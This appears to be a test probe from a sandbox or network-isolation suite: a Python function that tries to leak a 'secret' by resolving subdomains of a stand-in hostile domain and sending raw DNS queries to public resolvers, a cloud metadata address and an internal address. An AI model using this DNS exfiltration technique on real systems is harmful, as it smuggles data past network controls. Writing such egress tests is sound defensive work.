"""Spells a secret in host names, for a name server to see."""
# acceptable: value, exception, timeout

import socket


def attack():
    reached = []
    for number in range(5):
        name = f"secret-{number}.kowal-hostile.example.com"
        try:
            reached += [found for found in socket.getaddrinfo(name, 80) if found[4][0] not in ("", name)]
        except OSError:
            pass
    for server in ("8.8.8.8", "1.1.1.1", "169.254.169.254", "10.255.255.53"):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
                client.connect((server, 53))
                reached.append(client.send(b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\0\0\1\0\1"))
        except OSError:
            pass
    return reached
